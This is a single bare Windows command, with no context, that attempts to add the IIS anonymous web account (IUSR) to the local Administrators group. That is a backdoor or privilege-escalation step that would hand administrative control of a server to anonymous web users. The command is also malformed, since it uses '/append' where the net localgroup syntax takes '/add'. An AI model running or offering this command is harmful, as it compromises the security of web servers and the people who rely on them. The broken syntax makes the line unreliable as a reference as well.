net localgroup Administrators IUSR /append
